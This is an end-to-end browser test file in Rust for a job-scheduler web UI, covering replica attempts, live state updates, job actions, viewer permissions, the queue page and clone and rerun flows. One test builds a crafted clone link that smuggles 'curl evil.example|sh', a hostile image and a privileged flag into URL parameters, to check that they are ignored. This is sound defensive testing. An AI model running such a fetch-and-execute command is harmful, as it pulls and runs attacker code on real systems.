//! The job page and the deployments list end to end, live: attempts of a
//! retried replica, state changes without a reload, and the actions.

use jobdeck_e2e::{Browser, JobState, Server};
use serde_json::json;

/// A name no other test's job has, so marker files do not collide.
fn unique(prefix: &str) -> String {
    let nanos = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().subsec_nanos();
    format!("{prefix}-{}", nanos % 100_000)
}

fn shell_job(name: &str, script: &str, spec: serde_json::Value) -> serde_json::Value {
    let mut job = json!({
        "metadata": {"name": name},
        "spec": {"container": {"image": "busybox", "command": ["/bin/sh", "-c", script]}}
    });
    if let (Some(target), Some(extra)) = (job["spec"].as_object_mut(), spec.as_object()) {
        target.extend(extra.clone());
    }
    job
}

/// Marks the page so a test can tell it was not reloaded.
fn mark_page(browser: &Browser) {
    browser.execute("window.__notReloaded = true;", vec![]);
}

fn page_was_not_reloaded(browser: &Browser) -> bool {
    browser.execute("return window.__notReloaded === true;", vec![]) == json!(true)
}

#[test]
fn a_retried_replica_shows_every_attempt_in_the_table_and_the_timeline() {
    let server = Server::start();
    let name = unique("retry");
    // Replica 2 fails on its first attempt only (a marker file outside the
    // attempt's working directory remembers it); the others succeed.
    let marker = format!("/tmp/jobdeck-e2e-{name}");
    let script = format!(
        "if [ \"$JOB_COMPLETION_INDEX\" = 2 ] && [ ! -f {marker} ]; then touch {marker}; echo first try fails; exit 3; fi; echo ok"
    );
    let id = server.create_job(
        &server.admin_token,
        &shell_job(&name, &script, json!({"completions": 4, "parallelism": 2, "backoff_limit": 2})),
    );
    server.wait_for_state(&server.admin_token, &id, JobState::Completed);
    let _ = std::fs::remove_file(&marker);

    let browser = Browser::start();
    browser.sign_in(&server, &server.admin_token);
    browser.goto(&format!("{}/jobs/{id}/replicas", server.base_url));
    browser.wait_until("five attempts in the replicas table", || {
        (browser.find_all("table.replicas tbody tr").len() == 5).then_some(())
    });
    browser.wait_until("five bars on four lanes in the timeline", || {
        (browser.find_all(".timeline-chart .bar").len() == 5).then_some(())
    });
    assert_eq!(browser.find_all(".timeline-chart .bar.bad").len(), 1, "the failed first attempt is red");
    browser.wait_for_text("5 attempts of 4 replicas, 1 failed");
    let rows = browser.execute(
        "return [...document.querySelectorAll('table.replicas tbody tr')].map(r => r.innerText.replace(/\\s+/g, ' '));",
        vec![],
    );
    let failed: Vec<&str> =
        rows.as_array().unwrap().iter().filter_map(|r| r.as_str()).filter(|r| r.contains("Failed")).collect();
    assert_eq!(failed.len(), 1, "{rows}");
    assert!(failed[0].contains('3'), "the failed attempt shows its exit code: {}", failed[0]);
    browser.screenshot(&jobdeck_e2e::screenshot_path("replicas-tab"));

    // A bar is a link: the keyboard reaches it and Enter opens that log.
    let bar = browser.find(".timeline-chart a.bar.bad");
    browser.press_key(&bar, "\u{E007}");
    browser.wait_until("the failed attempt's log", || {
        browser.current_url().contains(&format!("/jobs/{id}/logs?replica={id}-2-0")).then_some(())
    });
    browser.wait_for_text("first try fails");
}

#[test]
fn state_changes_appear_live_on_the_list_and_the_job_page() {
    let server = Server::start();
    // Each job runs until the test creates its release file, so the test
    // sees it Running for as long as it needs, however slow the machine.
    let gates = tempfile::tempdir().unwrap();
    let release = |name: &str| {
        let path = gates.path().join(name);
        (format!("until [ -e '{}' ]; do sleep 0.05; done", path.display()), path)
    };
    let (wait_first, first_gate) = release("first");
    let id =
        server.create_job(&server.admin_token, &shell_job("short", &format!("{wait_first}; echo done"), json!({})));
    server.wait_for_state(&server.admin_token, &id, JobState::Running);

    let browser = Browser::start();
    browser.sign_in(&server, &server.admin_token);
    browser.find(&format!("tbody a[href='/jobs/{id}']"));
    let row_state = |browser: &Browser| {
        browser
            .execute(
                "const a = document.querySelector(`tbody a[href='/jobs/${arguments[0]}']`); \
                 return a ? a.closest('tr').querySelector('.badge').textContent : null;",
                vec![json!(id)],
            )
            .as_str()
            .unwrap_or_default()
            .to_string()
    };
    assert_eq!(row_state(&browser), "Running");
    mark_page(&browser);
    std::fs::write(&first_gate, "").unwrap();
    browser.wait_until("the row to say Completed", || (row_state(&browser) == "Completed").then_some(()));
    assert!(page_was_not_reloaded(&browser), "the list changed in place");

    let (wait_second, second_gate) = release("second");
    let second = server.create_job(
        &server.admin_token,
        &shell_job("second", &format!("{wait_second}; exit 1"), json!({"backoff_limit": 0})),
    );
    server.wait_for_state(&server.admin_token, &second, JobState::Running);
    browser.goto(&format!("{}/jobs/{second}", server.base_url));
    browser.find(".job-head .badge");
    mark_page(&browser);
    let badge = || browser.text(&browser.find(".job-head .badge"));
    assert_eq!(badge(), "Running");
    std::fs::write(&second_gate, "").unwrap();
    browser.wait_until("the job page to say Failed", || (badge() == "Failed").then_some(()));
    assert!(page_was_not_reloaded(&browser), "the job page changed in place");
}

/// How many requests the page has made to exactly `path` (resource timing
/// lists every finished `fetch`).
fn requests_to(browser: &Browser, path: &str) -> u64 {
    browser
        .execute(
            "return performance.getEntriesByType('resource') \
               .filter(e => new URL(e.name).pathname === arguments[0]).length;",
            vec![json!(path)],
        )
        .as_u64()
        .unwrap()
}

/// Waits until the page's own clock has shown `seconds` more of a running
/// job's duration (read by `duration`, as "12s"): time that passed on the
/// page, counted by the page, with nothing changing on the server.
fn wait_for_page_seconds(browser: &Browser, seconds: u64, duration: impl Fn() -> String) {
    let read = || duration().trim_end_matches('s').parse::<u64>().ok();
    let start = browser.wait_until("a running duration in seconds", read);
    browser.wait_until("the page's clock to count on", || read().filter(|now| *now >= start + seconds));
}

/// With the event stream up, the list and the job page ask the server only
/// when it says something changed: while a gated job runs and the pages'
/// clocks count three seconds on, neither asks again (polling would have
/// asked three times), and the job's end still shows without a reload.
/// Without a stream (its URL blocked) the page says so and polls.
#[test]
fn changes_come_through_the_event_stream_and_polling_is_only_the_fallback() {
    let server = Server::start();
    let gates = tempfile::tempdir().unwrap();
    let gated = |name: &str, then: &str| {
        let gate = gates.path().join(name);
        let script = format!("until [ -e '{}' ]; do sleep 0.05; done; {then}", gate.display());
        let id = server.create_job(&server.admin_token, &shell_job(name, &script, json!({"backoff_limit": 0})));
        server.wait_for_state(&server.admin_token, &id, JobState::Running);
        (id, gate)
    };
    let (id, gate) = gated("streamed", "echo done");

    let browser = Browser::start();
    browser.sign_in(&server, &server.admin_token);
    browser.find(&format!("tbody a[href='/jobs/{id}']"));
    let live = |browser: &Browser| browser.execute("return document.body.dataset.live || '';", vec![]);
    browser.wait_until("the stream to be up", || (live(&browser) == "stream").then_some(()));
    assert_eq!(browser.text(&browser.find(".live-state")), "", "the indicator is drawn by CSS");
    let row = |browser: &Browser, column: &str| {
        browser
            .execute(
                "const a = document.querySelector(`tbody a[href='/jobs/${arguments[0]}']`); \
                 if (!a) return ''; const row = a.closest('tr'); \
                 if (arguments[1] === 'state') return row.querySelector('.badge').textContent; \
                 const cell = [...row.cells].map(c => c.textContent.trim()).find(t => /^[0-9]+s$/.test(t)); \
                 return cell || '';",
                vec![json!(id), json!(column)],
            )
            .as_str()
            .unwrap_or_default()
            .to_string()
    };
    mark_page(&browser);
    let before = requests_to(&browser, "/api/v2/jobs");
    wait_for_page_seconds(&browser, 3, || row(&browser, "duration"));
    let asked = requests_to(&browser, "/api/v2/jobs") - before;
    assert!(asked <= 1, "the list asked {asked} times in three quiet seconds");
    std::fs::write(&gate, "").unwrap();
    browser.wait_until("the row to say Completed", || (row(&browser, "state") == "Completed").then_some(()));
    assert!(page_was_not_reloaded(&browser), "the list changed in place");

    let (second, second_gate) = gated("streamed-job", "exit 1");
    browser.goto(&format!("{}/jobs/{second}", server.base_url));
    browser.find(".job-head .badge");
    browser.wait_until("the stream to be up", || (live(&browser) == "stream").then_some(()));
    mark_page(&browser);
    let duration = || {
        browser
            .execute(
                "const dt = [...document.querySelectorAll('.overview dt')].find(d => d.textContent === 'Duration'); \
                 return dt ? dt.nextElementSibling.textContent : '';",
                vec![],
            )
            .as_str()
            .unwrap_or_default()
            .to_string()
    };
    let job_path = format!("/api/v2/jobs/{second}");
    let before = requests_to(&browser, &job_path);
    wait_for_page_seconds(&browser, 3, duration);
    let asked = requests_to(&browser, &job_path) - before;
    assert!(asked <= 1, "the job page asked {asked} times in three quiet seconds");
    std::fs::write(&second_gate, "").unwrap();
    let badge = || browser.text(&browser.find(".job-head .badge"));
    browser.wait_until("the job page to say Failed", || (badge() == "Failed").then_some(()));
    assert!(page_was_not_reloaded(&browser), "the job page changed in place");
    browser.screenshot(&jobdeck_e2e::screenshot_path("job-page-live"));

    // No stream: the page says it checks every second, and does.
    let (third, third_gate) = gated("polled", "echo done");
    browser.block_urls(&["*/api/v2/stream*"]);
    browser.goto(&format!("{}/jobs/{third}", server.base_url));
    browser.wait_until("the page to fall back to polling", || (live(&browser) == "poll").then_some(()));
    std::fs::write(&third_gate, "").unwrap();
    browser.wait_until("the polled page to say Completed", || (badge() == "Completed").then_some(()));
}

#[test]
fn stop_start_and_delete_work_and_the_buttons_follow_the_state() {
    let server = Server::start();
    let id = server.create_job(&server.admin_token, &shell_job("long", "exec sleep 600", json!({})));
    server.wait_for_state(&server.admin_token, &id, JobState::Running);

    let browser = Browser::start();
    browser.sign_in(&server, &server.admin_token);
    browser.goto(&format!("{}/jobs/{id}", server.base_url));
    let enabled = |class: &str| {
        browser.execute(&format!("return !document.querySelector('.actions button.{class}').disabled;"), vec![])
            == json!(true)
    };
    browser.wait_for_text("Running");
    browser.wait_until("Stop enabled, Start disabled", || (enabled("stop") && !enabled("start")).then_some(()));

    browser.click(&browser.find(".actions button.stop"));
    browser
        .wait_until("the job to stop", || (browser.text(&browser.find(".job-head .badge")) == "Stopped").then_some(()));
    browser.wait_until("Start enabled, Stop disabled", || (enabled("start") && !enabled("stop")).then_some(()));
    let (_, job) = server.call("GET", &format!("/jobs/{id}"), &server.admin_token, None);
    assert_eq!(job["status"]["state"], "Stopped");

    browser.click(&browser.find(".actions button.start"));
    browser.wait_until("the job to run again", || {
        (browser.text(&browser.find(".job-head .badge")) == "Running").then_some(())
    });
    browser.wait_until("Stop enabled again", || (enabled("stop") && !enabled("start")).then_some(()));

    // Delete asks first; Cancel keeps the job.
    browser.click(&browser.find(".actions button.delete"));
    browser.click(&browser.find("dialog.confirm button.cancel"));
    assert_eq!(server.call("GET", &format!("/jobs/{id}"), &server.admin_token, None).0, 200);
    browser.click(&browser.find(".actions button.delete"));
    browser.click(&browser.find("dialog.confirm button.confirm-delete"));
    browser.wait_until("the deployments list", || browser.current_url().ends_with("/jobs").then_some(()));
    browser.wait_until("the job to be gone", || {
        (server.call("GET", &format!("/jobs/{id}"), &server.admin_token, None).0 == 404).then_some(())
    });

    // Someone else sees a public job's buttons disabled: they may not act.
    let other = server.create_job(&server.admin_token, &shell_job("theirs", "exec sleep 600", json!({})));
    server.wait_for_state(&server.admin_token, &other, JobState::Running);
    let bob = server.token_for("bob");
    let viewer = Browser::start();
    viewer.sign_in(&server, &bob);
    viewer.goto(&format!("{}/jobs/{other}", server.base_url));
    viewer.wait_for_text("Running");
    let disabled = viewer.execute(
        "return ['stop', 'start', 'delete'].map(c => document.querySelector(`.actions button.${c}`).disabled);",
        vec![],
    );
    assert_eq!(disabled, json!([true, true, true]));
}

/// The metrics tab draws a running replica's CPU and memory as it works,
/// its memory against the shape's limit, and reads out the values under
/// the pointer.
#[test]
fn the_metrics_tab_charts_a_working_replica_live() {
    let server = Server::start();
    let gate = server.data_dir.join("release-metrics");
    let script = format!(
        "x=$(head -c 50000000 /dev/zero | tr '\\0' a); echo holding; while [ ! -e '{}' ]; do :; done",
        gate.display()
    );
    let id = server.create_job(
        &server.admin_token,
        &shell_job(&unique("metrics"), &script, json!({"resource_shape": "cpu.small"})),
    );
    server.wait_for_state(&server.admin_token, &id, JobState::Running);

    let browser = Browser::start();
    browser.sign_in(&server, &server.admin_token);
    browser.goto(&format!("{}/jobs/{id}/metrics", server.base_url));
    browser.wait_for_text("Replica 0, attempt 1");
    // Live: the charts fill in as samples arrive, without a reload.
    mark_page(&browser);
    browser.wait_until("two CPU samples drawn", || {
        let points = browser.execute(
            "const l = document.querySelector('figure.chart polyline'); return l ? l.getAttribute('points') : '';",
            vec![],
        );
        (points.as_str().unwrap_or("").split(' ').count() >= 2).then_some(())
    });
    browser.wait_until("the memory chart to show the 50 MB the replica holds", || {
        let text = browser.page_text();
        text.lines()
            .any(|l| {
                l.contains("Memory: ")
                    && l.split("Memory: ")
                        .nth(1)
                        .is_some_and(|v| v.starts_with(|c: char| c.is_ascii_digit()) && !v.starts_with("0 MiB"))
            })
            .then_some(())
    });
    // A refresh redraws the charts in place: still one lane for one replica.
    let points = || {
        browser
            .execute("return document.querySelector('figure.chart polyline').getAttribute('points');", vec![])
            .as_str()
            .unwrap_or("")
            .split(' ')
            .count()
    };
    let before = points();
    browser.wait_until("a refresh with more samples", || (points() > before).then_some(()));
    assert_eq!(browser.find_all(".timeline-chart ol.lanes li").len(), 1, "one lane, drawn once");
    assert!(page_was_not_reloaded(&browser));
    let text = browser.page_text();
    assert!(text.contains("(limit 4.0 GiB)"), "the shape's memory is drawn as the limit: {text}");
    assert!(browser.find_all("figure.chart line.limit").len() == 1, "one limit line, on the memory chart");
    // Hovering reads the values at that time.
    let readout = browser.execute(
        "const svg = document.querySelectorAll('figure.chart svg')[0];
         const r = svg.getBoundingClientRect();
         svg.dispatchEvent(new MouseEvent('mousemove', {clientX: r.left + r.width * 0.99, clientY: r.top + 10, bubbles: true}));
         return new Promise(done => setTimeout(() => done(svg.closest('figure').querySelector('.chart-readout').textContent), 50));",
        vec![],
    );
    assert!(
        readout.as_str().unwrap_or("").contains("CPU: ") && readout.as_str().unwrap().contains(" cores at "),
        "{readout}"
    );
    browser.screenshot(&jobdeck_e2e::screenshot_path("metrics-tab"));
    std::fs::write(&gate, "").unwrap();
    server.wait_for_state(&server.admin_token, &id, JobState::Completed);
}

/// A teammate given the viewer role from the command line reads a shared
/// job page but is offered no action the server would refuse (no New job,
/// no Stop, no Clone, and a note saying why), and the API refuses the same.
/// The role changes from the command line on an existing user, and the
/// workspace's only admin cannot be demoted there either.
#[test]
fn a_viewer_reads_a_shared_job_and_is_offered_no_action_the_server_would_refuse() {
    let server = Server::start();
    let admin = server.admin_token.clone();
    let out = server.token_command(&["create", "--user", "vera", "--role", "viewer"]);
    let said = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(out.status.success() && said.contains("new viewer vera"), "{said}");
    let viewer = String::from_utf8(out.stdout).unwrap().trim().to_string();
    let id = server.create_job(&admin, &shell_job(&unique("shared"), "sleep 600", json!({})));
    server.wait_for_state(&admin, &id, JobState::Running);

    let browser = Browser::start();
    browser.sign_in(&server, &viewer);
    browser.goto(&format!("{}/jobs/{id}", server.base_url));
    browser.wait_for_text("Viewers cannot stop, start, delete or clone jobs.");
    for button in ["button.stop", "button.delete"] {
        assert!(browser.attribute(&browser.find(button), "disabled").is_some(), "{button} is offered to a viewer");
    }
    // Neither Clone nor any New job link is shown.
    let shown = browser.execute(
        "return [...document.querySelectorAll('a.clone, a[href=\"/jobs/new\"]')]
             .filter(a => getComputedStyle(a).display !== 'none').map(a => a.textContent);",
        vec![],
    );
    assert_eq!(shown, json!([]), "offered to a viewer");
    browser.screenshot(&jobdeck_e2e::screenshot_path("job-page-viewer"));

    let stop = json!({"spec": {"stopped": true}});
    let (status, body) = server.call("PATCH", &format!("/jobs/{id}"), &viewer, Some(&stop));
    assert_eq!(status, 403, "{body}");
    assert_eq!(server.call("POST", "/jobs", &viewer, Some(&shell_job("vera", "true", json!({})))).0, 403);

    // Made a member, the same token may create jobs; the admin keeps the
    // role they alone hold.
    let out = server.token_command(&["create", "--user", "vera", "--role", "member"]);
    assert!(String::from_utf8_lossy(&out.stderr).contains("vera is now a member"));
    let (status, body) = server.call("POST", "/jobs", &viewer, Some(&shell_job("vera", "true", json!({}))));
    assert_eq!(status, 200, "{body}");
    let out = server.token_command(&["create", "--user", "admin", "--role", "viewer"]);
    let said = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(!out.status.success() && said.contains("only admin"), "{said}");
    let (_, me) = server.call("GET", "/workspace", &admin, None);
    assert_eq!(me["current_user_role"], "admin");
    assert_eq!(server.call("PATCH", &format!("/jobs/{id}"), &admin, Some(&stop)).0, 200);
}

/// One node group of 8 (pretend) GPUs and shapes of 8 and 4 of them.
const EIGHT_GPUS: &str = r#"
[[node_groups]]
name = "local"
cpu = 8
memory_mb = 16384
gpus = 8
node_names = ["gpu-node"]

[[shapes]]
name = "cpu.small"
cpu = 1
memory_mb = 1024

[[shapes]]
name = "gpu.8"
cpu = 1
memory_mb = 1024
gpus = 8

[[shapes]]
name = "gpu.4"
cpu = 1
memory_mb = 1024
gpus = 4
"#;

/// Issue 38's pending view: a queued job's overview says what would let it
/// start, and "Clone with shape gpu.4" opens the form filled with that
/// change, which, created, starts at once.
#[test]
fn a_queued_jobs_overview_offers_the_change_that_starts_it_and_the_form_comes_filled() {
    let server = Server::start_on("127.0.0.1:0", EIGHT_GPUS, &[], true);
    let gates = tempfile::tempdir().unwrap();
    let gate = gates.path().join("half");
    let wait = format!("until [ -e '{}' ]; do sleep 0.05; done", gate.display());
    // A deadline far off: the queued job's start is estimated from it.
    let half = server.create_job(
        &server.admin_token,
        &shell_job("half", &wait, json!({"resource_shape": "gpu.4", "active_deadline_seconds": 3600})),
    );
    server.wait_for_state(&server.admin_token, &half, JobState::Running);
    let big = server.create_job(&server.admin_token, &shell_job("big", "echo big", json!({"resource_shape": "gpu.8"})));
    jobdeck_e2e::wait_for("the scheduler's suggestion", jobdeck_e2e::BROWSER_WAIT, || {
        let (_, job) = server.call("GET", &format!("/jobs/{big}"), &server.admin_token, None);
        job["status"]["start_suggestions"].as_array().filter(|s| !s.is_empty()).map(|_| ())
    });

    let browser = Browser::start();
    browser.sign_in(&server, &server.admin_token);
    browser.goto(&format!("{}/jobs/{big}", server.base_url));
    browser.wait_for_text("What would let it start");
    browser.wait_for_text("fits now with 4 GPUs a replica instead of 8 (shape gpu.4) in node group local");
    browser.wait_for_text("Expected start");
    browser.wait_for_text("at the latest, when the deadlines of the running jobs it waits for have passed");
    let link = browser.find(".start-suggestions a");
    assert_eq!(browser.text(&link), "Clone with shape gpu.4");
    browser.screenshot(&jobdeck_e2e::screenshot_path("job-queued-suggestions"));
    browser.click(&link);
    browser.wait_for_text(&format!("Cloned from {big} with the change that would let it start now"));
    let value = |id: &str| {
        browser
            .execute("const e = document.getElementById(arguments[0]); return e ? e.value : null;", vec![json!(id)])
            .as_str()
            .map(String::from)
    };
    browser.wait_until("the changed shape", || (value("resource-shape")? == "gpu.4").then_some(()));
    assert_eq!(value("job-name").as_deref(), Some("big"));
    // Above Create, what the clone changes from the job it came from.
    browser.wait_for_text(&format!("1 change from job {big}"));
    let diff = || browser.text(&browser.find(".clone-diff"));
    assert!(diff().contains("Resource shape") && diff().contains("gpu.8 → gpu.4"), "{}", diff());
    let name = browser.find("#job-name");
    browser.clear(&name);
    browser.type_text(&name, "big-smaller\u{E004}");
    browser.wait_for_text(&format!("2 changes from job {big}"));
    assert!(diff().contains("big → big-smaller"), "{}", diff());
    browser.execute("document.querySelector('.clone-diff').scrollIntoView();", vec![]);
    browser.screenshot(&jobdeck_e2e::screenshot_path("create-job-form-clone-diff"));
    browser.click(&browser.find("button[type=submit]"));
    let created = browser.wait_until("the new job's page", || {
        let url = browser.current_url();
        let id = url.split("/jobs/").nth(1)?.split(['/', '?']).next()?.to_string();
        (!id.is_empty() && id != "new" && id != big).then_some(id)
    });
    let job = server.wait_for_state(&server.admin_token, &created, JobState::Completed);
    assert_eq!(job.spec.resource_shape.as_deref(), Some("gpu.4"));
    assert_eq!(server.job(&server.admin_token, &big).status.and_then(|s| s.state), Some(JobState::Queueing));

    // A link someone else made carries only the three changes a suggestion
    // can: anything else in its query leaves the cloned job as it was.
    browser.goto(&format!(
        "{}/jobs/new?clone={big}&parallelism=1&command=curl%20evil.example%7Csh&image=evil%2Fimage&privileged=true",
        server.base_url
    ));
    browser.wait_for_text(&format!("Cloned from {big} with the change"));
    browser.wait_until("the cloned command", || (value("command")? == "echo big").then_some(()));
    assert_eq!(value("image").as_deref(), Some("busybox"), "the image is the job's own");
    assert!(!diff().contains("evil"), "{}", diff());
    std::fs::write(&gate, "").unwrap();
}

/// Issue 38's queue view: the queued jobs in the scheduler's order with
/// their places, priorities and preemption marks; another user's private job
/// keeps its place but is not named; the overview's link marks the job; a
/// start takes a row away and renumbers the rest without a reload.
#[test]
fn the_queue_page_lists_the_waiting_jobs_in_admission_order_and_follows_them() {
    let server = Server::start_on("127.0.0.1:0", EIGHT_GPUS, &[], true);
    let gates = tempfile::tempdir().unwrap();
    let gate = gates.path().join("holder");
    let wait = format!("until [ -e '{}' ]; do sleep 0.05; done", gate.display());
    let admin = &server.admin_token;
    let holder = server.create_job(admin, &shell_job("holder", &wait, json!({"resource_shape": "gpu.8"})));
    server.wait_for_state(admin, &holder, JobState::Running);
    let later = server.create_job(
        admin,
        &shell_job("later", &wait, json!({"resource_shape": "gpu.8", "queue_config": {"can_be_preempted": true}})),
    );
    let bob = server.token_for("bob");
    let mut private = shell_job("bobs-secret-plan", "true", json!({"resource_shape": "gpu.4"}));
    private["metadata"]["visibility"] = json!("private");
    let (status, body) = server.call("POST", "/jobs", &bob, Some(&private));
    assert_eq!(status, 200, "{body}");
    // The urgent job, once started, waits too, so the page is seen between
    // its start and the next one's.
    let urgent_gate = gates.path().join("urgent");
    let urgent_wait = format!("until [ -e '{}' ]; do sleep 0.05; done", urgent_gate.display());
    let urgent = server.create_job(
        admin,
        &shell_job(
            "urgent",
            &urgent_wait,
            json!({"resource_shape": "gpu.8", "queue_config": {"priority_class": "high-9000", "can_preempt": true}}),
        ),
    );
    jobdeck_e2e::wait_for("three queued jobs", jobdeck_e2e::BROWSER_WAIT, || {
        let (_, queue) = server.call("GET", "/queue", admin, None);
        (queue["jobs"].as_array()?.len() == 3).then_some(())
    });

    let browser = Browser::start();
    browser.sign_in(&server, admin);
    // The overview of a queued job links to the queue, the job marked.
    browser.goto(&format!("{}/jobs/{later}", server.base_url));
    browser.wait_for_text("Place in queue");
    browser.click(&browser.find(".queue-link a"));
    browser.wait_for_text("3 jobs are waiting; 1 of them is another user's private job, counted but not named.");
    assert!(browser.current_url().ends_with(&format!("/queue?job={later}")), "{}", browser.current_url());
    mark_page(&browser);
    let rows = || -> Vec<Vec<String>> {
        let cells = browser.execute(
            "return Array.from(document.querySelectorAll('table.queue tbody tr'))\
               .map(tr => Array.from(tr.children).map(c => c.textContent.trim()));",
            vec![],
        );
        serde_json::from_value(cells).unwrap()
    };
    let table = rows();
    let column = |n: usize| table.iter().map(|r| r[n].clone()).collect::<Vec<_>>();
    assert_eq!(column(0), ["1", "2this job", "3"], "places, the marked job badged: {table:?}");
    assert_eq!(column(1), ["urgent", "later", "another user's private job"]);
    assert_eq!(column(2), ["admin", "admin", ""]);
    assert_eq!(column(3)[0], "high-9000");
    assert_eq!(column(5), ["1 × gpu.8 (8 GPUs each)", "1 × gpu.8 (8 GPUs each)", "1 × 4 GPUs"]);
    assert_eq!(column(7), ["may preempt", "preemptible", ""]);
    assert!(column(8)[0].contains("8 GPUs"), "why it waits, in its status's words: {table:?}");
    assert!(!browser.page_text().contains("bobs-secret-plan"), "a private job is never named");
    browser.screenshot(&jobdeck_e2e::screenshot_path("queue"));

    // One node group's queue is a link of its own.
    browser.execute(
        "const s = document.querySelector('section.queue select'); s.value = 'local'; \
         s.dispatchEvent(new Event('change', {bubbles: true}));",
        vec![],
    );
    browser.wait_until("the node group in the address", || {
        browser.current_url().contains("/queue?node_group=local&job=").then_some(())
    });
    browser.wait_until("the group's queue", || (rows().len() == 3).then_some(()));
    assert_eq!(browser.find_all("table.queue").len(), 1, "one table, its rows replaced");

    // The holder ends: the urgent job starts, and its row goes with no reload.
    std::fs::write(&gate, "").unwrap();
    browser.wait_until("the started job's row gone", || {
        let table = rows();
        (table.len() == 2 && table[0][1] == "later" && table[0][0].starts_with('1')).then_some(())
    });
    assert!(page_was_not_reloaded(&browser));
    std::fs::write(&urgent_gate, "").unwrap();
    server.wait_for_state(admin, &urgent, JobState::Completed);
}

/// Issue 38: a failed job's overview names the indexes that did not
/// succeed and the one change a rerun makes; the button runs only those,
/// and the rerun's page links back. The section is a module of its own,
/// downloaded for such a job only.
#[test]
fn a_failed_jobs_overview_reruns_only_its_failed_indexes() {
    let server = Server::start_on("127.0.0.1:0", EIGHT_GPUS, &[], true);
    let scratch = tempfile::tempdir().unwrap();
    let heal = scratch.path().join("heal");
    // One at a time: index 1 fails the job, and 2 and 3 never start.
    let script = format!(
        "if [ $JOB_COMPLETION_INDEX = 1 ] && [ ! -e '{}' ]; then exit 3; fi; echo shard=$JOB_COMPLETION_INDEX of $JOB_COMPLETIONS",
        heal.display()
    );
    let spec = json!({"completions": 4, "parallelism": 1, "backoff_limit": 0});
    let id = server.create_job(&server.admin_token, &shell_job("shards", &script, spec));
    server.wait_for_state(&server.admin_token, &id, JobState::Failed);

    let browser = Browser::start();
    browser.sign_in(&server, &server.admin_token);
    browser.goto(&format!("{}/jobs/{id}", server.base_url));
    browser.wait_for_text("3 of its 4 indexes did not succeed in its last run: 1–3.");
    browser.wait_for_text("one change, completion indexes 1–3");
    let button = browser.find("button.rerun-failed");
    assert_eq!(browser.text(&button), "Rerun 3 failed indexes");
    browser.execute("document.querySelector('.reruns').scrollIntoView();", vec![]);
    browser.screenshot(&jobdeck_e2e::screenshot_path("job-rerun-failed-indexes"));
    std::fs::write(&heal, "").unwrap();
    browser.click(&button);
    let rerun = browser.wait_until("the rerun's page", || {
        let url = browser.current_url();
        let opened = url.split("/jobs/").nth(1)?.split(['/', '?']).next()?.to_string();
        (!opened.is_empty() && opened != id).then_some(opened)
    });
    browser.wait_for_text(&format!("Reruns indexes 1–3 that failed in {id}"));
    let job = server.wait_for_state(&server.admin_token, &rerun, JobState::Completed);
    assert_eq!(job.spec.completion_indexes, Some(vec![1, 2, 3]));
    let ran: Vec<i64> = server
        .replicas(&server.admin_token, &rerun)
        .iter()
        .map(|r| r["status"]["completion_index"].as_i64().unwrap())
        .collect();
    assert_eq!(ran, [1, 2, 3]);
    // Back on the job, the rerun is a link; its record and index 0's log
    // stay.
    browser.goto(&format!("{}/jobs/{id}", server.base_url));
    browser.wait_for_text(&format!("Its failed indexes were rerun as {rerun}"));
    browser.find(&format!(".reruns a[href='/jobs/{rerun}']"));
    assert_eq!(server.log_text(&server.admin_token, &id, &format!("{id}-0-0")), "shard=0 of 4\n");
}
